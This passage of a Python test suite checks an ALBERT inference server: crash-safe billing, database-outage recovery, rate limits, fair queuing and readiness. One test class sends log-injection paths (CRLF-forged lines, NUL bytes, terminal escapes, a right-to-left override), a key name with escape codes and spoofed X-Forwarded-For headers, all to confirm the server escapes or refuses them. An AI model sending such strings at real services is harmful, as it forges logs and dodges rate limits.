            "key_name": "k", "model": "tiny", "endpoint": "POST /v1/inference/{model}",
            "status": 200, "error_type": None, "tokens": 3, "runtime_ms": 1.0, "cost": 1.0,
            "latency_ms": 2.0, "replica": "t", **changes}


def _wait_log(server, text: str, timeout: float = 10.0) -> str:
    """The server's log once it holds ``text`` (an access line is written after its answer
    is sent), or as it is after ``timeout``."""
    import time

    deadline = time.monotonic() + timeout
    while text not in (log := server.log()) and time.monotonic() < deadline:
        time.sleep(0.05)
    return log


# ---------------------------------------------------------------------- billing
class TestBilling:
    """Billing exactly once: an answered request's row is committed before its answer
    leaves (kill -9 loses none), one bad row never takes others with it, the writer never
    dies, and a database outage gives fast 503s, then recovers by itself."""

    def test_kill_9_loses_no_answered_request(self, tmp_path_factory) -> None:
        """30 answered requests then kill -9 at once: 30 billed rows. Then kill -9 while 8
        clients are sending: every answered request is billed. A restart reads them all."""
        import asyncio

        root = tmp_path_factory.mktemp("kill9")
        model = tiny_model(root / "tiny")
        db = f"sqlite:///{root / 'ledger.db'}"
        key = cli("keys", "create", "--db", db, "--name", "k9").stdout.strip()
        args = _server_args(model, db, jax_cache_dir(tmp_path_factory))
        server = Server(args, root, "first")
        try:
            server.wait_ready()

            async def thirty():
                async with httpx.AsyncClient(base_url=server.url, headers=auth(key),
                                             timeout=60) as client:
                    return await asyncio.gather(*(client.post(
                        "/v1/inference/tiny", json={"input": f"{i} is my [MASK]."})
                        for i in range(30)))

            answered = asyncio.run(thirty())
            server.proc.kill()  # at once: no drain, no flush
            server.proc.wait()
            assert [r.status_code for r in answered] == [200] * 30
            rows = _ledger(db)
            for r in answered:
                row = rows[r.headers["x-request-id"]]
                assert row["status"] == 200 and row["key_name"] == "k9"
                assert row["cost"] == pytest.approx(r.json()["inference_status"]["cost"])
            assert len(rows) == 30
        finally:
            server.kill()

        server = Server(args, root, "second")
        try:
            server.wait_ready()
            answers: list = []
            killed = []

            def stop() -> bool:  # kill -9 mid-flight, once 40 answers are in
                if not killed and len(answers) >= 40:
                    server.proc.kill()
                    killed.append(True)
                return bool(killed) and server.proc.poll() is not None

            asyncio.run(_clients(server.url, key, 8, stop, answers))
        finally:
            server.kill()
        ok = [r for r, _ in answers if isinstance(r, httpx.Response) and r.status_code == 200]
        assert len(ok) >= 40
        rows = _ledger(db)
        assert all(rows[r.headers["x-request-id"]]["status"] == 200 for r in ok)
        # Rows may exceed answers only by requests in flight at the kill (committed, not
        # delivered): at most one per client.
        assert len(ok) <= sum(r["status"] == 200 for r in rows.values()) - 30 <= len(ok) + 8

        server = Server(args, root, "third")  # The restarted server sees every row.
        try:
            server.wait_ready()
            usage = httpx.get(server.url + "/v1/usage", headers=auth(key)).json()
            assert sum(d["requests"] for d in usage["days"]) == len(rows)
        finally:
            server.kill()

    def test_one_bad_row_never_takes_others(self, tmp_path) -> None:
        """A group with a row the database refuses (NULL endpoint) and a row stored already:
        the others are committed, the bad row alone fails, the duplicate counts as stored,
        and the writer goes on."""
        from albert_jax.serving import db
        from albert_jax.serving.ledger import Ledger

        engine = db.connect(f"sqlite:///{tmp_path / 'l.db'}")

        def row(i: int, **changes) -> dict:
            return _usage_row(f"r{i}", **{"cost": 0.001, **changes})

        db.insert_usage(engine, [row(0)])
        ledger = Ledger(engine)
        try:
            with ledger._cond:  # Queued together, so that they go in one group.
                futures = [ledger.commit(row(i)) for i in (1, 2)]
                bad = ledger.commit(row(3, endpoint=None))
                dup = ledger.commit(row(0))
                ledger.record(row(4, status=401, cost=0.0))
            for f in (*futures, dup):
                assert f.result(10) is None
            with pytest.raises(Exception, match="NOT NULL"):
                bad.result(10)
            assert ledger.commit(row(5)).result(10) is None  # the writer is alive
            assert ledger.flush(10) and ledger.healthy
        finally:
            ledger.close()
        assert sorted(_ledger(str(engine.url))) == ["r0", "r1", "r2", "r4", "r5"]

    def test_a_bug_in_the_writer_does_not_stop_billing(self, tmp_path, monkeypatch) -> None:
        from albert_jax.serving import db
        from albert_jax.serving import ledger as ledger_module

        engine = db.connect(f"sqlite:///{tmp_path / 'l.db'}")
        real, calls = db.insert_usage, []

        def flaky(engine, rows):
            calls.append(len(rows))
            if len(calls) <= 2:  # the group, then its row-by-row retry
                raise RuntimeError("a bug")
            real(engine, rows)

        monkeypatch.setattr(ledger_module.db, "insert_usage", flaky)
        ledger = ledger_module.Ledger(engine)
        row = _usage_row(None)
        try:
            with pytest.raises(RuntimeError, match="a bug"):
                ledger.commit({**row, "request_id": "a"}).result(10)
            assert ledger.commit({**row, "request_id": "b"}).result(10) is None
            assert ledger.alive and ledger.healthy
        finally:
            ledger.close()
        assert list(_ledger(str(engine.url))) == ["b"]

    def test_a_row_whose_waiter_gave_up_is_not_billed(self, tmp_path, monkeypatch) -> None:
        """The database answers after the request was answered 503: its row is stored
        unbilled (status 503, no cost); a row given up before its write is never stored."""
        import threading
        import time

        from albert_jax.serving import db
        from albert_jax.serving import ledger as ledger_module

        engine = db.connect(f"sqlite:///{tmp_path / 'l.db'}")
        real, gate = db.insert_usage, threading.Event()

        def slow(engine, rows):
            gate.wait(10)
            real(engine, rows)

        monkeypatch.setattr(ledger_module.db, "insert_usage", slow)
        ledger = ledger_module.Ledger(engine)
        row = _usage_row(None)
        try:
            first = ledger.commit({**row, "request_id": "in-flight"})
            deadline = time.monotonic() + 10
            while not first.running() and time.monotonic() < deadline:
                time.sleep(0.01)
            queued = ledger.commit({**row, "request_id": "queued"})
            ledger.abandon(first, "in-flight")
            ledger.abandon(queued, "queued")
            gate.set()
            assert ledger.flush(10)
            assert ledger.commit({**row, "request_id": "later"}).result(10) is None
            # Committed, then its waiter gave up anyway (the answer could not wait): marked
            # unbilled with no other traffic to carry it.
            late = ledger.commit({**row, "request_id": "late"})
            assert late.result(10) is None
            ledger.abandon(late, "late")
            deadline = time.monotonic() + 10
            while (_ledger(str(engine.url))["late"]["status"] != 503
                   and time.monotonic() < deadline):
                time.sleep(0.05)
        finally:
            ledger.close()
        rows = _ledger(str(engine.url))
        assert sorted(rows) == ["in-flight", "late", "later"]
        for name in ("in-flight", "late"):
            assert (rows[name]["status"], rows[name]["cost"]) == (503, 0.0)
        assert rows["later"]["cost"] == 1.0

    def test_database_outage_fast_503_then_recovery(self, tmp_path_factory) -> None:
        """PostgreSQL stopped under load: every request gets its answer or a fast 503
        ``unavailable`` (no hang, no 500), /ready says 503; started again, the service
        recovers by itself and every answered request is billed."""
        import asyncio
        import time

        from serve_util import Postgres

        pg = Postgres()
        root = tmp_path_factory.mktemp("outage")
        server = None
        try:
            model = tiny_model(root / "tiny")
            key = cli("keys", "create", "--db", pg.url, "--name", "o").stdout.strip()
            server = Server(_server_args(model, pg.url, jax_cache_dir(tmp_path_factory)),
                            root, "outage")
            server.wait_ready()
            answers: list = []
            phase = {"t": time.monotonic(), "state": "up"}
            ready_during: list[int] = []

            def stop() -> bool:
                now = time.monotonic()
                if phase["state"] == "up" and len(answers) >= 20:
                    pg.halt()
                    phase.update(state="down", t=now, at=len(answers))
                elif phase["state"] == "down" and now - phase["t"] > 4:
                    ready_during.append(httpx.get(server.url + "/ready").status_code)
                    pg.resume()
                    phase.update(state="resumed", t=now, at2=len(answers))
                elif phase["state"] == "resumed":
                    recent = [r for r, _ in answers[phase["at2"]:]
                              if isinstance(r, httpx.Response) and r.status_code == 200]
                    return len(recent) >= 20 or now - phase["t"] > 60
                return False

            asyncio.run(_clients(server.url, key, 4, stop, answers, timeout=30))
            assert phase["state"] == "resumed"
            statuses = [r.status_code if isinstance(r, httpx.Response) else type(r).__name__
                        for r, _ in answers]
            assert set(statuses) <= {200, 503}, set(statuses)  # never a 500, never cut
            down = answers[phase["at"]: phase["at2"]]
            assert any(r.status_code == 503 for r, _ in down)
            for r, seconds in down:
                assert seconds < 7.0, seconds  # fast: the connect and wait timeouts
                if r.status_code == 503:
                    assert r.json()["error_type"] in ("unavailable", "not_ready"), r.text
            assert ready_during == [503]
            after = [r for r, _ in answers[phase["at2"]:] if r.status_code == 200]
            assert len(after) >= 20  # recovered by itself
            assert httpx.get(server.url + "/ready").status_code == 200
            rows = _ledger(pg.url)
            for r, _ in answers:
                if r.status_code == 200:
                    assert rows[r.headers["x-request-id"]]["status"] == 200
        finally:
            if server is not None:
                server.kill()
            pg.stop()


# ---------------------------------------------------------------------- untrusted strings
class TestUntrustedStrings:
    """Paths, targets and key names are the client's: the ledger stores the route and a
    served model or one fixed marker, never the raw path; the access log escapes control
    characters and bounds lengths; unknown targets log nothing (on PostgreSQL, where a NUL
    or an over-long string in an insert fails the whole transaction)."""

    JUNK = ("/models/" + "x" * 300, "/v1/inference/a%00b", "/models/%0d%0aFORGED%20line",
            "/v1/inference/%1b%5b31mred", "/models/%e2%80%aeevil")

    @pytest.fixture(scope="class")
    @classmethod
    def pg_server(cls, tmp_path_factory):
        from serve_util import Postgres

        pg = Postgres()
        root = tmp_path_factory.mktemp("strings")
        server = None
        try:
            model = tiny_model(root / "tiny")
            key = cli("keys", "create", "--db", pg.url, "--name", "s").stdout.strip()
            server = Server([*_server_args(model, pg.url, jax_cache_dir(tmp_path_factory)),
                             "--allow-anonymous"], root, "strings")
            server.wait_ready()
            yield dict(server=server, url=pg.url, key=key)
        finally:
            if server is not None:
                server.kill()
            pg.stop()

    def test_junk_paths_never_reach_the_ledger(self, pg_server) -> None:
        import time

        server, url, key = pg_server["server"], pg_server["url"], pg_server["key"]
        before = set(_ledger(url))
        billed, junk = [], []
        for i in range(15):  # 15 billed requests with junk among them, keyed and not
            billed.append(httpx.post(server.url + "/v1/inference/tiny",
                                     json={"input": f"{i} [MASK] here"}, headers=auth(key)))
            path = self.JUNK[i % len(self.JUNK)]
            junk.append(httpx.post(server.url + path, json={"inputs": "a [MASK]"},
                                   headers=auth(key) if i % 2 else {}))
        assert [r.status_code for r in billed] == [200] * 15
        # 404, or 422 where the body is not that route's shape: refused either way.
        assert {r.status_code for r in junk} <= {404, 422} and junk[0].status_code == 404
        for r in junk:
            assert "FORGED line" not in r.text.replace("\\r\\n", "")  # echoed escaped, if at all
        # Billed rows are committed before their answers; the refused ones' rows follow.
        deadline = time.monotonic() + 10
        while True:
            rows = {k: v for k, v in _ledger(url).items() if k not in before}
            if len(rows) >= 30 or time.monotonic() > deadline:
                break
            time.sleep(0.05)
        assert len(rows) == 30
        for r in billed:
            row = rows[r.headers["x-request-id"]]
            assert (row["status"], row["model"]) == (200, "tiny")
        for r in junk:
            row = rows[r.headers["x-request-id"]]
            assert (row["status"], row["model"]) == (r.status_code, "(unknown)")
            assert row["endpoint"] in ("POST /models/{model}", "POST /v1/inference/{model}")

    def test_the_access_log_shows_paths_escaped_and_bounded(self, pg_server) -> None:
        server = pg_server["server"]
        for path in self.JUNK:
            httpx.post(server.url + path, json={"inputs": "a [MASK]"})
        httpx.get(server.url + "/x" * 400 + "%0aFORGED")
        log = _wait_log(server, "/x/x/x")
        assert not any(line.startswith("FORGED") for line in log.splitlines())
        assert "\x1b" not in log and "\u202e" not in log
        assert max(len(line) for line in log.splitlines()) < 600

    def test_client_addresses_are_not_taken_from_headers(self, pg_server) -> None:
        """Anonymous calls are limited per client address (60 inputs a minute); without
        --forwarded-allow-ips a spoofed X-Forwarded-For changes nothing."""
        import asyncio
        import time

        server = pg_server["server"]

        async def run():
            async with httpx.AsyncClient(base_url=server.url, timeout=60) as client:
                async def one(i):
                    r = await client.post("/v1/inference/tiny", json={"input": "a [MASK]"},
                                          headers={"X-Forwarded-For": f"10.0.0.{i}"})
                    return r.status_code
                return await asyncio.gather(*(one(i) for i in range(100)))

        start = time.monotonic()
        codes = asyncio.run(run())
        refilled = time.monotonic() - start + 1  # a token a second
        assert set(codes) == {200, 429}
        assert codes.count(200) <= 60 + refilled, (codes.count(200), refilled)

    def test_unknown_targets_log_nothing(self, pg_server) -> None:
        server, key = pg_server["server"], pg_server["key"]
        before = server.log().count("\n")
        targets = [f"zz{i}qx" for i in range(100)]  # no vocabulary piece: first pieces used
        r = httpx.post(server.url + "/v1/inference/tiny",
                       json={"input": "a [MASK]", "targets": targets}, headers=auth(key))
        assert r.status_code == 200, r.text
        log = _wait_log(server, r.headers["x-request-id"])
        assert log.count("\n") - before == 1  # the access line, nothing else

    def test_a_hostile_key_name_is_escaped_in_the_log(self, pg_server) -> None:
        """A key created before names were checked (inserted directly) with a terminal
        escape and a newline in its name."""
        import sqlalchemy as sa

        from albert_jax.serving import db

        engine = sa.create_engine(pg_server["url"])
        key = "ajk_hostile-name-key"
        with engine.begin() as conn:
            conn.execute(db.api_keys.insert().values(
                name="ev\x1b[2Jil\nFORGED", key_hash=db.hash_key(key), prefix=key[:8],
                rate_limit=None, created_at=db.now()))
        engine.dispose()
        server = pg_server["server"]
        assert httpx.post(server.url + "/v1/inference/tiny", json={"input": "a [MASK]"},
                          headers=auth(key)).status_code == 200
        log = _wait_log(server, "key=ev\\x1b[2Jil\\nFORGED")
        assert "key=ev\\x1b[2Jil\\nFORGED" in log and "\x1b" not in log


# ---------------------------------------------------------------------- admission
class TestAdmission:
    """Per-request caps (413/422 naming the limit, never 429), rate limits that count
    inputs, fair shares of the queue and fair order, usage reads that wait for nothing,
    unknown keys refused from memory, metrics on their own port."""

    @pytest.fixture(scope="class")
    @classmethod
    def server(cls, tmp_path_factory):
        from serve_util import free_port

        root = tmp_path_factory.mktemp("admission")
        model = tiny_model(root / "tiny")
        db = f"sqlite:///{root / 'ledger.db'}"
        keys = {name: cli("keys", "create", "--db", db, "--name", name).stdout.strip()
                for name in ("heavy", "light")}
        keys["rate5"] = cli("keys", "create", "--db", db, "--name", "rate5",
                            "--rate-limit", "5").stdout.strip()
        metrics_port = free_port()
        server = Server([*_server_args(model, db, jax_cache_dir(tmp_path_factory)),
                         "--max-client-batch-size", "4", "--max-targets", "3",
                         "--max-top-k", "10", "--max-queue", "16", "--allow-anonymous",
                         "--forwarded-allow-ips", "127.0.0.1",
                         "--metrics-port", str(metrics_port)], root, "admission")
        try:
            server.wait_ready()
            yield dict(server=server, keys=keys, db=db, metrics_port=metrics_port)
        finally:
            server.kill()

    @pytest.mark.parametrize(("body", "status", "named"), [
        ({"inputs": ["a [MASK]"] * 5}, 413, "--max-client-batch-size"),
        ({"inputs": "a [MASK]", "parameters": {"targets": ["a", "b", "c", "d"]}}, 413,
         "--max-targets"),
        ({"inputs": "a [MASK]", "parameters": {"top_k": 11}}, 422, "--max-top-k"),
        ({"inputs": ["a [MASK]"] * 20000}, 413, "--max-client-batch-size"),
    ])
    def test_caps_name_their_limit(self, server, body, status, named) -> None:
        r = httpx.post(server["server"].url + "/models/tiny", json=body,
                       headers=auth(server["keys"]["light"]), timeout=30)
        assert r.status_code == status, r.text
        assert named in r.json()["error"]
        assert "retry-after" not in r.headers

    def test_caps_are_admitted_at_the_limit(self, server) -> None:
        r = httpx.post(server["server"].url + "/models/tiny",
                       json={"inputs": ["a [MASK]"] * 4,
                             "parameters": {"top_k": 10, "targets": ["▁a", "▁b", "▁c"]}},
                       headers=auth(server["keys"]["light"]), timeout=30)
        assert r.status_code == 200, r.text
        assert [len(x) for x in r.json()] == [3, 3, 3, 3]

    def test_rate_limit_counts_inputs(self, server) -> None:
        url, key = server["server"].url, server["keys"]["rate5"]  # 5 inputs a minute
        big = httpx.post(url + "/models/tiny", json={"inputs": ["a [MASK]"] * 4},
                         headers=auth(key))
        assert big.status_code == 200
        more = httpx.post(url + "/models/tiny", json={"inputs": ["a [MASK]"] * 2},
                          headers=auth(key))
        assert more.status_code == 429 and more.json()["error_type"] == "rate_limited"
        one = httpx.post(url + "/models/tiny", json={"inputs": "a [MASK]"}, headers=auth(key))
        assert one.status_code == 200

    def test_a_heavy_key_neither_starves_nor_overtakes_a_light_one(self, server) -> None:
        """16 concurrent clients of one key send 4 inputs each, one client of another key
        single inputs: the light key is never refused (a share of the queue is kept for
        it) and waits less than the heavy one (fair order, not arrival order)."""
        import asyncio
        import time

        url, keys = server["server"].url, server["keys"]
        results: dict[str, list] = {"heavy": [], "light": []}

        async def loop(client, name, inputs, until):
            while time.monotonic() < until:
                start = time.perf_counter()
                r = await client.post("/models/tiny", json={"inputs": inputs},
                                      headers=auth(keys[name]))
                results[name].append((r.status_code, time.perf_counter() - start))
                if name == "light":
                    await asyncio.sleep(0.05)

        async def run():
            until = time.monotonic() + 6
            async with httpx.AsyncClient(base_url=url, timeout=60) as client:
                await asyncio.gather(
                    *(loop(client, "heavy", ["the [MASK] is here"] * 4, until)
                      for _ in range(16)),
                    loop(client, "light", "a [MASK]", until))

        asyncio.run(run())
        heavy = [s for s, _ in results["heavy"]]
        light = [s for s, _ in results["light"]]
        assert 429 in heavy and 200 in heavy  # the heavy key met its share...
        assert set(light) == {200} and len(light) >= 5  # ...the light one never did
        heavy_ok = sorted(t for s, t in results["heavy"] if s == 200)
        light_ok = sorted(t for _, t in results["light"])
        assert light_ok[len(light_ok) // 2] < heavy_ok[len(heavy_ok) // 2]

    def test_usage_is_committed_when_the_answer_arrives(self, server) -> None:
        url, key = server["server"].url, server["keys"]["light"]

        def requests() -> int:
            days = httpx.get(url + "/v1/usage", headers=auth(key)).json()["days"]
            return sum(d["requests"] for d in days)

        before = requests()
        assert httpx.post(url + "/models/tiny", json={"inputs": "a [MASK]"},
                          headers=auth(key)).status_code == 200
        assert requests() == before + 1  # no flush to wait for

    def test_forwarded_addresses_from_a_trusted_proxy(self, server) -> None:
        """With --forwarded-allow-ips 127.0.0.1, X-Forwarded-For names the client: each
        address has its own anonymous budget."""
        url = server["server"].url
        codes = [httpx.post(url + "/models/tiny", json={"inputs": "a [MASK]"},
                            headers={"X-Forwarded-For": f"10.1.{i // 250}.{i % 250}"}
                            ).status_code for i in range(70)]
        assert set(codes) == {200}

    def test_metrics_on_their_own_port(self, server) -> None:
        main = httpx.get(server["server"].url + "/metrics")
        assert main.status_code == 404
        own = httpx.get(f"http://127.0.0.1:{server['metrics_port']}/metrics")
        assert own.status_code == 200 and "albert_requests_total" in own.text
        assert "albert_ledger_commit_seconds" in own.text

    def test_unknown_keys_are_refused_from_memory(self, tmp_path) -> None:
        """100 requests with one wrong key cost one database lookup (a real SQLite
        database; the statements counted by SQLAlchemy's event hook)."""
        import asyncio

        import sqlalchemy as sa

        from albert_jax.serving import db
        from albert_jax.serving.errors import ServiceError
        from albert_jax.serving.metrics import Metrics
        from albert_jax.serving.service import RequestContext, Service, ServiceOptions

        engine = db.connect(f"sqlite:///{tmp_path / 'k.db'}")
        served = type("Served", (), {})()
        service = Service({"m": served}, engine, ServiceOptions(), Metrics())
        lookups = []
        sa.event.listen(engine, "before_cursor_execute",
                        lambda conn, cursor, statement, *rest: lookups.append(statement)
                        if "api_keys" in statement else None)

        async def run():
            for _ in range(100):
                with pytest.raises(ServiceError, match="unknown API key"):
                    await service.authenticate("Bearer ajk_wrong", "c", RequestContext("r", 0))

        try:
            asyncio.run(run())
        finally:
            service.ledger.close()
        assert len(lookups) == 1


# ---------------------------------------------------------------------- start-up
class TestStartup:
    """Start-up says what it compiles, /ready probes stay out of the access log, and
    /ready turns 503 when the engine thread dies."""

    def test_progress_logged_and_probes_quiet(self, tmp_path_factory) -> None:
        import re

        root = tmp_path_factory.mktemp("startup")
        model = tiny_model(root / "tiny")
        db = f"sqlite:///{root / 'ledger.db'}"
        server = Server(_server_args(model, db, jax_cache_dir(tmp_path_factory)), root, "s")
        try:
            server.wait_ready()
            for _ in range(5):
                assert httpx.get(server.url + "/ready").status_code == 200
            httpx.get(server.url + "/v1/models")
            log = _wait_log(server, '"GET /v1/models" 200')
        finally:
            server.kill()

        total = re.search(r"tiny: compiling (\d+) shapes", log)
        assert total, log
        assert f"tiny: {total.group(1)}/{total.group(1)} shapes compiled" in log
        assert '"GET /ready"' not in log and '"GET /v1/models" 200' in log

    def test_a_dead_engine_thread_makes_ready_503(self, tmp_path) -> None:
        import threading
        import time

        import uvicorn
        from serve_util import free_port

        from albert_jax.serving.app import create_app
        from albert_jax.serving.server import ServeConfig, build_service

        model = tiny_model(tmp_path / "tiny")
        service = build_service(ServeConfig(models=[f"tiny={model}"],
                                            db=f"sqlite:///{tmp_path / 'd.db'}",
                                            max_batch_size=1, length_buckets=(32,),
                                            max_length=32))
        batcher = service.models["tiny"].batcher

        def broken():  # a bug outside the guarded engine call
            raise RuntimeError("boom in the batcher")

        batcher._next_batch = broken
        service.start()
        port = free_port()
        server = uvicorn.Server(uvicorn.Config(create_app(service), host="127.0.0.1",
                                               port=port, log_level="warning"))
        thread = threading.Thread(target=server.run, daemon=True)
        thread.start()
        try:
            assert batcher.ready.wait(120)
            deadline = time.monotonic() + 30
            while (batcher.alive or not server.started) and time.monotonic() < deadline:
                time.sleep(0.05)
            ready = httpx.get(f"http://127.0.0.1:{port}/ready")
            assert ready.status_code == 503, ready.text
            assert "engine" in ready.json()["error"]
            r = httpx.post(f"http://127.0.0.1:{port}/v1/inference/tiny",
                           json={"input": "a [MASK]"})
            assert r.status_code == 503  # fast, not a 30 s timeout
        finally:
            server.should_exit = True
            thread.join(30)
            service.close()

    def test_an_idle_connection_stays_usable(self, tmp_path_factory) -> None:
        """A keep-alive connection idle for 6 s still takes a request (uvicorn's default
        closes it after 5 s: a client that sends just then loses its request)."""
        import http.client
        import time

        root = tmp_path_factory.mktemp("keepalive")
        model = tiny_model(root / "tiny")
        server = Server(_server_args(model, f"sqlite:///{root / 'l.db'}",
                                     jax_cache_dir(tmp_path_factory)), root, "k")
        try:
            server.wait_ready()
            conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
            try:
                conn.request("GET", "/health")
                assert conn.getresponse().read() == b'{"status":"ok"}'
                sock = conn.sock
                time.sleep(6)
                conn.request("GET", "/health")  # the same connection, not a new one
                assert conn.sock is sock
                assert conn.getresponse().read() == b'{"status":"ok"}'
            finally:
                conn.close()
        finally:
            server.kill()
